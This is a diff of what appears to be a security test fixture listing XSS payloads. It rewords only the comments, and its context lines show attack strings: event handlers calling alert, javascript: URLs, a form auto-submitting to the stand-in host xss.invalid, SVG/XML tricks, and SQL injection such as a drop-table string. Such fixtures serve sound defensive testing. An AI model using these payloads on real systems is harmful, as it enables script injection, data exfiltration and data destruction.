@@ -1,4 +1,5 @@
-// Two hundred ways to be run instead of shown. Each, were it run, calls alert or asks xss.invalid for something.
+// Two hundred texts that try to be run instead of shown. Each of them, if run, calls alert or requests
+// something from xss.invalid.
 // oxlint-disable no-script-url -- such addresses are what is tried here
 
 const tags = [
@@ -125,7 +126,7 @@ const scripts = [
   '{"__html":"<img src=x onerror=alert(1)>"}',
 ];
 
-/** Handlers on elements that are not thought of, and in spellings that are not. */
+/** Handlers on unusual elements, and in unusual spellings. */
 const strayHandlers = [
   "<a autofocus onfocus=alert(1) href=x>x</a>",
   "<article onclick=alert(1)>x</article>",
@@ -169,7 +170,7 @@ const strayHandlers = [
   "<x onbeforetoggle=alert(1) popover id=p>x</x><button popovertarget=p>",
 ];
 
-/** What a frame, a form, a worker or a base could carry away. */
+/** What a frame, a form, a worker or a base could send elsewhere. */
 const carriers = [
   "<form action=//xss.invalid/f><input name=a value=b></form><script>document.forms[0].submit()</script>",
   "<form id=f action=javascript:alert(1)></form><button form=f>x",
@@ -193,7 +194,7 @@ const carriers = [
   "<script>navigator.serviceWorker.register('/x.js')</script>",
 ];
 
-/** Drawings and formulas, whose parser is another one. */
+/** Drawings and formulas, which have their own parsers. */
 const otherParsers = [
   "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>",
   "<svg><animateTransform onbegin=alert(1) attributeName=transform>",
@@ -215,7 +216,7 @@ const otherParsers = [
   "<?xml-stylesheet href='javascript:alert(1)'?>",
 ];
 
-/** Texts that some part on the way reads as its own language. */
+/** Texts that some part on the way interprets in its own language. */
 const languages = [
   "'; drop table app_user; --",
   "' or '1'='1",
